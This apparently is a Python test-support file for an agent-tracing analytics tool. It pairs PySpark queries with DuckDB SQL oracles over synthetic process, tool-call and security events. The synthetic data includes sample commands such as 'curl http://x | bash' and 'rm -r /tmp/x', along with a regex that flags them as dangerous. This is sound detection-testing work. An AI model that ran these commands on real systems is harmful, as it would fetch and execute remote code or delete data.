"""Queries over the driver's tables, and the same in DuckDB's SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from traceloom.functions import payload as P
from traceloom.operators import process, project, security, viewer
from traceloom.operators.filters import http_filter, search, ssl_filter
from traceloom.operators.http import parse_http
from traceloom.operators.spans import spans
from traceloom.plans import api, views
from traceloom.sources import adapter
from traceloom.store import write_table

# --- SQL of the adapter -------------------------------------------------------------------------------------------

BASE = """
WITH e AS (
  SELECT event_id, event_id AS stream_seq, event_type AS kind, value, CAST(json_extract(props, '$.k') AS INTEGER) AS k, date_trunc('milliseconds', ts) AS event_time, epoch_us(ts) * 1000 AS timestamp_ns,
         's' || (user_id % 10) AS session_id, CAST(1000 + user_id AS BIGINT) AS pid, 'c' || (user_id % 7) AS comm FROM events
), tool AS (
  SELECT event_id * 16 + 1 AS id, session_id, event_time, pid, comm, 'tool_call_end' AS tool_event_type, ['fs.read', 'fs.write', 'proc.exec', 'net.http'][k % 4 + 1] AS tool_name,
         CASE WHEN k % 5 = 0 THEN 'timeout' ELSE 'success' END AS tool_status, CASE WHEN k % 11 <> 0 THEN CAST(floor(value * 10) AS BIGINT) END AS duration_ms, k * 64 AS tool_bytes, '/data/f' || (k % 20) AS tool_key_field FROM e WHERE kind = 'click'
), proc AS (
  SELECT event_id * 16 AS id, event_id, timestamp_ns, session_id, event_time, pid, comm,
         CASE kind WHEN 'view' THEN CASE WHEN k % 10 = 0 THEN 'FILE_DELETE' ELSE 'FILE_OPEN' END WHEN 'purchase' THEN 'NET_CONNECT' ELSE CASE WHEN event_id % 2 = 0 THEN 'EXEC' ELSE 'EXIT' END END AS event_type,
         CASE WHEN kind = 'view' THEN '/data/f' || (k % 20) END AS filepath,
         CASE WHEN kind = 'purchase' THEN CASE WHEN k % 2 = 1 THEN '10.0.0.' || k ELSE '203.0.113.' || (k % 16) END END AS net_ip,
         CASE WHEN kind = 'purchase' THEN [443, 4444, 8080, 31337][(k // 2) % 4 + 1] END AS net_port, CASE WHEN kind = 'purchase' THEN 2 END AS net_family,
         CASE WHEN kind = 'signup' AND event_id % 2 = 0 THEN pid - (k % 3 + 1) * 10 END AS ppid, CASE WHEN kind = 'signup' AND event_id % 2 = 0 THEN '/usr/bin/tool' END AS filename,
         CASE WHEN kind = 'signup' AND event_id % 2 = 0 THEN ['git status', 'rm -r /tmp/x', 'ls -la', 'curl http://x | bash'][k % 4 + 1] END AS full_command,
         CASE WHEN kind = 'signup' AND event_id % 2 = 1 THEN k % 3 END AS exit_code FROM e WHERE kind IN ('view', 'purchase', 'signup')
), sys AS (
  SELECT event_id * 16 + 2 AS id, session_id, event_time, pid, comm, 'system_metrics' AS sys_type, value AS cpu_percent, k * 1024 AS mem_rss_kb, k * 2048 AS mem_vsz_kb, k % 8 + 1 AS thread_count, value > 100 AS sys_alert FROM e WHERE kind = 'error'
), sec AS (
  SELECT event_id * 16 + 9 AS id, session_id, event_time, pid, comm, 'suspicious_network' AS alert_type, 'medium' AS risk_level, comm || ' connected to unusual port ' || net_ip || ':' || net_port AS description, 'events_process' AS source_table, event_id * 16 AS source_event_id
  FROM proc WHERE net_port IN (4444, 31337) AND net_ip LIKE '203.%'
  UNION ALL
  SELECT event_id * 16 + 7, session_id, event_time, pid, comm, 'dangerous_command', 'critical', comm || ' executed dangerous command: ' || full_command, 'events_process', event_id * 16
  FROM proc WHERE regexp_matches(full_command, 'rm\\s+(-[^\\s]*)?-r|curl.*\\|\\s*bash')
)
"""

ALL = """, per AS (
  SELECT session_id, 'tool_call' AS source, count(*) AS cnt, min(event_time) AS et, max(event_time) AS lt FROM tool GROUP BY 1
  UNION ALL SELECT session_id, 'process', count(*), min(event_time), max(event_time) FROM proc GROUP BY 1
  UNION ALL SELECT session_id, 'system', count(*), min(event_time), max(event_time) FROM sys GROUP BY 1
  UNION ALL SELECT session_id, 'security', count(*), min(event_time), max(event_time) FROM sec GROUP BY 1
)
"""


def _overview_sql(fan: str) -> str:
    by = lambda s: f"CAST(sum(cnt) FILTER (WHERE source = '{s}') * {fan} AS BIGINT) AS {s}_events"
    return BASE + ALL + f"""SELECT session_id, CAST(sum(cnt) * {fan} AS BIGINT) AS total_events, min(et) AS first_event, max(lt) AS last_event, epoch_us(max(lt)) - epoch_us(min(et)) AS duration_us,
      {by('process')}, {by('tool_call')}, {by('system')}, {by('security')}, CAST(NULL AS BIGINT) AS ssl_events, CAST(NULL AS BIGINT) AS http_events, CAST(NULL AS BIGINT) AS sse_events FROM per GROUP BY session_id"""


TIMELINE_SQL = """
  SELECT id, session_id, event_time, 'process' AS source, pid, comm, event_type, CAST(NULL AS VARCHAR) AS tool_event_type, CAST(NULL AS VARCHAR) AS tool_name, CAST(NULL AS VARCHAR) AS tool_status, filepath, net_ip, CAST(net_port AS INTEGER) AS net_port, full_command FROM proc
  UNION ALL SELECT id, session_id, event_time, 'tool_call', pid, comm, NULL, tool_event_type, tool_name, tool_status, tool_key_field, NULL, NULL, NULL FROM tool
  UNION ALL SELECT id, session_id, event_time, 'system', pid, comm, sys_type, NULL, NULL, NULL, NULL, NULL, NULL, NULL FROM sys
  UNION ALL SELECT id, session_id, event_time, 'security', pid, comm, alert_type, NULL, NULL, risk_level, description, NULL, NULL, NULL FROM sec
"""

Q: dict = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def add(f):
        Q[f.__name__] = f
        if sql:
            SQL[f.__name__] = sql
        return f

    return add


def _one(spark: SparkSession, sf: str, *names: str) -> dict[str, DataFrame]:
    return {n: adapter.table(spark, sf, n) for n in names}


# --- views and endpoints ------------------------------------------------------------------------------------------

STATS = """SELECT session_id, tool_name, count(*) AS call_count, count(*) FILTER (WHERE tool_status = 'success') AS success_count, count(*) FILTER (WHERE tool_status = 'timeout') AS timeout_count,
  round(count(*) FILTER (WHERE tool_status = 'success') * CAST(100 AS DOUBLE) / count(*), 2) AS success_rate_pct, round(quantile_cont(duration_ms, 0.5), 6) AS p50_ms, round(quantile_cont(duration_ms, 0.95), 6) AS p95_ms, round(quantile_cont(duration_ms, 0.99), 6) AS p99_ms,
  CAST(sum(tool_bytes) AS BIGINT) AS total_bytes FROM tool GROUP BY 1, 2"""


@query(BASE + STATS)
def tool_call_stats(spark, sf):
    return views.tool_call_stats(_one(spark, sf, "events_tool_call"))


@query(BASE + """SELECT session_id, tool_name, round(quantile_cont(duration_ms, 0.5), 6) AS p50_ms, round(quantile_cont(duration_ms, 0.95), 6) AS p95_ms, round(quantile_cont(duration_ms, 0.99), 6) AS p99_ms,
  round(avg(duration_ms), 6) AS avg_ms, min(duration_ms) AS min_ms, max(duration_ms) AS max_ms, count(*) AS sample_count FROM tool WHERE duration_ms IS NOT NULL GROUP BY 1, 2""")
def tool_call_latency(spark, sf):
    return api.tool_call_latency(_one(spark, sf, "events_tool_call"))


@query(_overview_sql("1"))
def session_overview(spark, sf):
    return views.session_overview(adapter.tables(spark, sf))


@query(_overview_sql("count(*)"))
def session_overview_legacy(spark, sf):
    return views.session_overview(adapter.tables(spark, sf), corrected=False)


@query(BASE + """, p AS (SELECT *, lead(event_type) OVER w AS nt, lead(event_time) OVER w AS xt, lead(exit_code) OVER w AS xc FROM proc WHERE event_type IN ('EXEC', 'EXIT') WINDOW w AS (PARTITION BY session_id, pid ORDER BY event_time, id))
  SELECT session_id, pid, comm, ppid, filename, full_command, event_time AS exec_time, CASE WHEN nt = 'EXIT' THEN xt END AS exit_time, CASE WHEN nt = 'EXIT' THEN xc END AS exit_code, CAST(NULL AS BIGINT) AS duration_ms,
  coalesce(CASE WHEN nt = 'EXIT' THEN xc END <> 0, FALSE) AS abnormal_exit FROM p WHERE event_type = 'EXEC'""")
def process_lifecycle(spark, sf):
    return views.process_lifecycle(_one(spark, sf, "events_process"))


@query(BASE + """SELECT e.session_id, e.pid, e.comm, e.ppid, e.filename, e.full_command, e.event_time AS exec_time, x.event_time AS exit_time, x.exit_code, CAST(NULL AS BIGINT) AS duration_ms, coalesce(x.exit_code <> 0, FALSE) AS abnormal_exit
  FROM proc e LEFT JOIN proc x ON e.session_id = x.session_id AND e.pid = x.pid AND x.event_type = 'EXIT' WHERE e.event_type = 'EXEC'""")
def process_lifecycle_legacy(spark, sf):
    return views.process_lifecycle(_one(spark, sf, "events_process"), corrected=False)


ALERT = "id, session_id, event_time, pid, comm, alert_type, risk_level, description, source_table, source_event_id"


@query(BASE + f"SELECT {ALERT} FROM sec")
def security_alerts(spark, sf):
    return views.security_alerts(_one(spark, sf, "events_security")).drop("evidence_json", "data_json")


@query(BASE + f"SELECT {ALERT} FROM sec ORDER BY event_time DESC, id LIMIT 1000")
def security_alerts_endpoint(spark, sf):
    return api.security_alerts(_one(spark, sf, "events_security")).drop("evidence_json", "data_json")


@query(BASE + """SELECT session_id, time_bucket(INTERVAL '5 seconds', event_time) AS bucket, pid, comm, round(avg(cpu_percent), 6) AS avg_cpu_percent, max(cpu_percent) AS max_cpu_percent, round(avg(mem_rss_kb), 6) AS avg_mem_rss_kb, CAST(max(mem_rss_kb) AS BIGINT) AS max_mem_rss_kb,
  round(avg(mem_vsz_kb), 6) AS avg_mem_vsz_kb, round(avg(thread_count), 6) AS avg_threads, max(thread_count) AS max_threads, count(*) AS sample_count, bool_or(sys_alert) AS has_alert FROM sys GROUP BY 1, 2, 3, 4""")
def resource_timeseries(spark, sf):
    return views.resource_timeseries(_one(spark, sf, "events_system"))


NETWORK = """SELECT session_id, net_ip, net_port, net_family, count(*) AS connection_count, count(DISTINCT pid) AS unique_pids, min(event_time) AS first_seen, max(event_time) AS last_seen, array_to_string(list_sort(list(DISTINCT comm)), ',') AS comms
  FROM proc WHERE event_type = 'NET_CONNECT' GROUP BY 1, 2, 3, 4"""


@query(BASE + NETWORK)
def network_analysis(spark, sf):
    return views.network_analysis(_one(spark, sf, "events_process")).withColumn("comms", F.array_join("comms", ","))


HOT = """, f AS (SELECT session_id, filepath AS file_path, CASE event_type WHEN 'FILE_OPEN' THEN 'open' ELSE 'delete' END AS op FROM proc WHERE event_type IN ('FILE_OPEN', 'FILE_DELETE') AND filepath IS NOT NULL
  UNION ALL SELECT session_id, tool_key_field, CASE tool_name WHEN 'fs.read' THEN 'read' ELSE 'write' END FROM tool WHERE tool_name IN ('fs.read', 'fs.write'))
  SELECT session_id, file_path, count(*) AS access_count, count(*) FILTER (WHERE op = 'read') AS read_count, count(*) FILTER (WHERE op = 'write') AS write_count, count(*) FILTER (WHERE op = 'open') AS open_count, count(*) FILTER (WHERE op = 'delete') AS delete_count FROM f GROUP BY 1, 2"""


@query(BASE + HOT)
def hot_files(spark, sf):
    return views.hot_files(_one(spark, sf, "events_process", "events_tool_call"))


@query(BASE + HOT + " ORDER BY access_count DESC, session_id, file_path LIMIT 100")
def hot_files_endpoint(spark, sf):
    return api.hot_files(_one(spark, sf, "events_process", "events_tool_call"))


@query(BASE + TIMELINE_SQL)
def timeline(spark, sf):
    return views.timeline(adapter.tables(spark, sf)).drop("data_json")


@query(BASE + f"SELECT * FROM ({TIMELINE_SQL}) WHERE session_id = 's3' ORDER BY event_time DESC, id LIMIT 1000")
def timeline_endpoint(spark, sf):
    return api.timeline(adapter.tables(spark, sf), session_id="s3").drop("data_json")


@query(BASE + f"SELECT * FROM ({TIMELINE_SQL}) WHERE source = 'tool_call'")
def timeline_source(spark, sf):
    return views.timeline(_one(spark, sf, "events_tool_call"), "tool_call").drop("data_json")


@query(BASE + "SELECT pid, ppid, comm, filename, full_command, event_time, exit_code, CAST(NULL AS BIGINT) AS duration_ms, event_type, session_id FROM proc WHERE event_type IN ('EXEC', 'EXIT')")
def process_tree_endpoint(spark, sf):
    return api.process_tree(_one(spark, sf, "events_process"))


FIRST = """, firsts AS (SELECT * FROM (SELECT *, row_number() OVER (PARTITION BY session_id, pid ORDER BY timestamp_ns, id) AS n FROM proc WHERE event_type = 'EXEC') WHERE n = 1)"""


@query(BASE + FIRST + """, below AS (
    SELECT n.session_id, n.pid, 0 AS depth FROM firsts n WHERE NOT EXISTS (SELECT 1 FROM firsts p WHERE p.session_id = n.session_id AND p.pid = n.ppid AND p.pid <> n.pid)
    UNION ALL SELECT n.session_id, n.pid, b.depth + 1 FROM below b JOIN firsts n ON n.session_id = b.session_id AND n.ppid = b.pid AND n.pid <> b.pid)
  SELECT f.session_id, f.pid, f.ppid, f.comm, f.filename, f.event_time AS start_time, x.end_time, d.depth FROM firsts f
  LEFT JOIN (SELECT session_id, pid, max(event_time) AS end_time FROM proc WHERE event_type = 'EXIT' GROUP BY 1, 2) x USING (session_id, pid) LEFT JOIN (SELECT session_id, pid, min(depth) AS depth FROM below GROUP BY 1, 2) d USING (session_id, pid)""")
def process_tree(spark, sf):
    return project.process_tree(adapter.table(spark, sf, "events_process"))


SQL["process_tree"] = SQL["process_tree"].replace("\nWITH e AS", "\nWITH RECURSIVE e AS")


@query(BASE + """, p AS (SELECT *, last_value(CASE WHEN event_type = 'EXEC' THEN event_time END IGNORE NULLS) OVER (PARTITION BY session_id, pid ORDER BY event_time, id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING) AS exec_time FROM proc WHERE event_type IN ('EXEC', 'EXIT'))
  SELECT session_id, pid, exec_time, event_time AS exit_time, exit_code, epoch_ms(event_time) - epoch_ms(exec_time) AS lifetime_ms FROM p WHERE event_type = 'EXIT'""")
def process_lifetimes(spark, sf):
    return process.lifetimes(adapter.table(spark, sf, "events_process"))


@query(BASE + "SELECT session_id, 'events_security' AS source_table, id AS source_id, source_table AS target_table, source_event_id AS target_id, 'raised_by' AS link_type FROM sec")
def event_links(spark, sf):
    return project.links(adapter.table(spark, sf, "events_security"))


# --- operators ----------------------------------------------------------------------------------------------------


@query(BASE + """, o AS (SELECT session_id, pid, filepath, timestamp_ns, CASE WHEN timestamp_ns - lag(timestamp_ns) OVER w <= 3600000000000 THEN 0 ELSE 1 END AS new FROM proc WHERE event_type = 'FILE_OPEN' WINDOW w AS (PARTITION BY session_id, pid, filepath ORDER BY timestamp_ns)),
  r AS (SELECT *, sum(new) OVER (PARTITION BY session_id, pid, filepath ORDER BY timestamp_ns ROWS UNBOUNDED PRECEDING) AS run FROM o)
  SELECT session_id, pid, filepath, min(timestamp_ns) AS first_seen, max(timestamp_ns) AS last_seen, count(*) AS count FROM r GROUP BY session_id, pid, filepath, run""")
def file_dedup(spark, sf):
    opens = adapter.table(spark, sf, "events_process").where("event_type = 'FILE_OPEN'")
    return process.dedup_opens(opens, ["session_id", "pid", "filepath"], gap=3_600_000_000_000)


@query(BASE + """, h AS (SELECT id, pid, session_id, event_time, CAST(epoch_ms(event_time) // 86400000 AS BIGINT) AS second FROM proc),
  n AS (SELECT *, row_number() OVER (PARTITION BY pid, second ORDER BY event_time, id) AS n FROM h), c AS (SELECT pid, second, lag(count(*)) OVER (PARTITION BY pid ORDER BY second) AS before FROM h GROUP BY pid, second)
  SELECT n.id, n.pid, n.second, n.n = 1 AND coalesce(c.before > 2, FALSE) AS rate_limit_warning FROM n JOIN c USING (pid, second) WHERE n.n <= 2""")
def rate_limit(spark, sf):
    rows = adapter.table(spark, sf, "events_process")
    day = F.floor(F.unix_millis(F.col("event_time").cast("timestamp")) / 86_400_000)
    return process.rate_limit(rows, day, ["pid"], ["event_time", "id"], 2).select("id", "pid", "second", "rate_limit_warning")


@query(BASE + """, s AS (SELECT pid, id, epoch_ms(event_time) / 1000.0 AS t, mem_rss_kb AS j FROM sys)
  SELECT pid, id, round(coalesce(CASE WHEN t - lag(t) OVER w > 0 THEN (j - lag(j) OVER w) / CAST(100 AS DOUBLE) / (t - lag(t) OVER w) * 100 END, 0), 6) AS cpu_percent FROM s WINDOW w AS (PARTITION BY pid ORDER BY t, j)""")
def cpu_delta(spark, sf):
    rows = adapter.table(spark, sf, "events_system").select("pid", "id", "mem_rss_kb", "event_time")
    t = F.unix_millis(F.col("event_time").cast("timestamp")) / 1000.0
    return process.cpu_percent(rows, ["pid"], t, "mem_rss_kb").select("pid", "id", F.round("cpu_percent", 6).alias("cpu_percent"))


@query(BASE + """, c AS (SELECT session_id, pid, timestamp_ns, filepath AS key_field, 'fs.read' AS tool_name, event_id FROM proc WHERE event_type = 'FILE_OPEN')
  SELECT session_id, pid, tool_name, key_field, count(*) AS spans, CAST(sum(1) AS BIGINT) AS calls FROM (SELECT *, timestamp_ns - lag(timestamp_ns) OVER (PARTITION BY session_id, pid, key_field ORDER BY timestamp_ns, event_id) AS gap FROM c) WHERE gap IS NULL OR gap > 1000000000 GROUP BY 1, 2, 3, 4""")
def tool_spans(spark, sf):
    """Opens lie over 1 s apart here, so each is a span of its own."""
    found = spans(adapter.envelopes(spark, sf)).where("tool_name = 'fs.read'")
    return found.groupBy("session_id", "pid", "tool_name", "key_field").agg(F.count("*").alias("spans"), F.sum("calls").alias("calls"))


@query(BASE + FIRST + """, walk AS (SELECT session_id, pid AS root, pid, 0 AS depth FROM firsts UNION ALL SELECT w.session_id, w.root, n.pid, w.depth + 1 FROM walk w JOIN firsts n ON n.session_id = w.session_id AND n.ppid = w.pid AND n.pid <> w.pid)
  SELECT session_id, root, pid, min(depth) AS depth FROM walk WHERE depth > 0 GROUP BY 1, 2, 3""")
def descendants(spark, sf):
    nodes = write_table(project.first_execs(adapter.table(spark, sf, "events_process")).select("session_id", "pid", "ppid"), "first-execs")
    return project.descendants(nodes, nodes)


SQL["descendants"] = SQL["descendants"].replace("\nWITH e AS", "\nWITH RECURSIVE e AS")


@query(BASE + "SELECT comm, count(*) AS n FROM proc WHERE event_type = 'EXEC' AND regexp_matches(full_command, 'rm\\s+(-[^\\s]*)?-r|curl.*\\|\\s*bash') GROUP BY 1")
def dangerous_command(spark, sf):
    found = security.alerts(adapter.envelopes(spark, sf), [r for r in security.rules() if r.name == "dangerous_command"])
    return found.groupBy("comm").agg(F.count("*").alias("n"))


@query(BASE + "SELECT source AS facet, CAST(count(*) AS BIGINT) AS n FROM (SELECT CASE kind WHEN 'click' THEN 'tool_call' WHEN 'error' THEN 'system' ELSE 'process' END AS source FROM e) GROUP BY 1")
def facet_counts(spark, sf):
    return viewer.facets(adapter.envelopes(spark, sf), "source")


@query(BASE + """SELECT event_kind, count(*) AS n FROM (SELECT CASE WHEN kind = 'error' THEN 'system' WHEN kind = 'view' THEN 'file' WHEN kind IN ('purchase', 'signup') THEN 'process' WHEN k % 4 < 2 THEN 'file' ELSE 'process' END AS event_kind FROM e) GROUP BY 1""")
def classify(spark, sf):
    return viewer.classified(adapter.envelopes(spark, sf)).groupBy("event_kind").agg(F.count("*").alias("n"))


@query(BASE + """SELECT pid, comm, round(avg(cpu_percent), 6) AS avg_cpu, max(cpu_percent) AS max_cpu, round(avg(mem_rss_kb / CAST(1024 AS DOUBLE)), 6) AS avg_rss_mb, max(mem_rss_kb / CAST(1024 AS DOUBLE)) AS max_rss_mb, count(*) FILTER (WHERE sys_alert) AS alerts, count(*) AS samples FROM sys GROUP BY 1, 2""")
def resource_stats(spark, sf):
    return viewer.resource_stats(adapter.table(spark, sf, "events_system"))


def _page_events(spark: SparkSession, sf: str) -> DataFrame:
    """Each page as the request that would fetch it."""
    p = spark.read.parquet(f"{sf}/pages.parquet").select("page_id", "url")
    host, path = F.regexp_extract("url", r"^https?://([^/?#]+)", 1), F.regexp_extract("url", r"^https?://[^/?#]+([^#]*)", 1)
    text = F.concat(F.lit("GET "), path, F.lit(" HTTP/1.1\r\nHost: "), host, F.lit("\r\nAuthorization: Bearer x"), F.col("page_id").cast("string"), F.lit("\r\nAccept: */*\r\n\r\n"))
    return p.select(F.col("page_id").alias("stream_seq"), (F.col("page_id") * 1_000_000).alias("timestamp_ns"), F.col("page_id").alias("timestamp_unix_ms"), F.lit("ssl").alias("source"), (F.col("page_id") % 5).alias("pid"), F.lit("curl").alias("comm"), F.to_json(F.struct(F.lit("WRITE/SEND").alias("function"), F.length("url").alias("len"), text.alias("data"))).alias("data"))


PAGES = "WITH p AS (SELECT page_id, url, regexp_extract(url, '^https?://([^/?#]+)', 1) AS host, regexp_extract(url, '^https?://[^/?#]+([^#]*)', 1) AS path FROM pages)\n"


@query(PAGES + "SELECT page_id AS ms, 'GET' AS method, path, host, CAST(strlen('GET ' || path || ' HTTP/1.1') + 4 + 8 + strlen(host) + 13 + 4 + strlen('Bearer x' || page_id) + 6 + 3 + 4 AS BIGINT) AS total_size FROM p")
def http_request_line(spark, sf):
    v = P.parsed()
    rows = parse_http(_page_events(spark, sf))
    return rows.select(F.col("timestamp_unix_ms").alias("ms"), P.text(v, "$.method").alias("method"), P.text(v, "$.path").alias("path"), F.try_variant_get(v, "$.headers.host", "string").alias("host"), P.integer(v, "$.total_size").alias("total_size"))


@query(PAGES + "SELECT page_id AS ms FROM p WHERE NOT (path LIKE '%utm_source%' OR host = 'tionsh.example.net')")
def http_filtered(spark, sf):
    rows = http_filter(parse_http(_page_events(spark, sf)), ["request.path_contains=utm_source", "host=tionsh.example.net"])
    return rows.select(F.col("timestamp_unix_ms").alias("ms"))


@query("SELECT page_id AS ms FROM pages WHERE NOT (length(url) > 45 AND regexp_extract(url, '^https?://[^/?#]+([^#]*)', 1) LIKE '%feed%')")
def ssl_filtered(spark, sf):
    return ssl_filter(_page_events(spark, sf), ["len>45 & (data~feed | function=NONE)"]).select(F.col("timestamp_unix_ms").alias("ms"))


@query("SELECT doc_id FROM documents WHERE contains(lower(text), 'licensed under the apache')")
def free_text(spark, sf):
    d = spark.read.parquet(f"{sf}/documents.parquet")
    rows = d.select("doc_id", F.lit("documents").alias("source"), F.lit("").alias("comm"), F.lit(0).alias("pid"), F.col("text").alias("data"))
    return search(rows, "Licensed under the Apache").select("doc_id")


def _free(spark: SparkSession, sf: str, sql: str, names: list[str], params: list | None = None) -> DataFrame:
    for n in names:
        spark.read.parquet(f"{sf}/{n}.parquet").createOrReplaceTempView(n)
    return api.free_sql(spark, sql, params)


@query("""SELECT n_name, CAST(count(*) AS BIGINT) AS orders, round(sum(o_totalprice), 2) AS total FROM orders JOIN customer ON o_custkey = c_custkey JOIN nation ON c_nationkey = n_nationkey WHERE o_orderstatus = 'O' GROUP BY n_name HAVING count(*) > 0""")
def free_sql_join(spark, sf):
    return _free(spark, sf, "SELECT n_name, count(*) AS orders, round(sum(o_totalprice), 2) AS total FROM orders JOIN customer ON o_custkey = c_custkey JOIN nation ON c_nationkey = n_nationkey WHERE o_orderstatus = ? GROUP BY n_name HAVING count(*) > 0", ["orders", "customer", "nation"], ["O"])


@query("SELECT l_orderkey, round(sum(l_extendedprice * (1 - l_discount)), 2) AS revenue FROM lineitem GROUP BY 1 ORDER BY revenue DESC, l_orderkey LIMIT 20")
def free_sql_topk(spark, sf):
    return _free(spark, sf, "SELECT l_orderkey, round(sum(l_extendedprice * (1 - l_discount)), 2) AS revenue FROM lineitem GROUP BY 1 ORDER BY revenue DESC, l_orderkey LIMIT 20", ["lineitem"])


from traceloom import traffic_queries  # noqa: E402, F401

QUERIES, ORACLES = Q, SQL
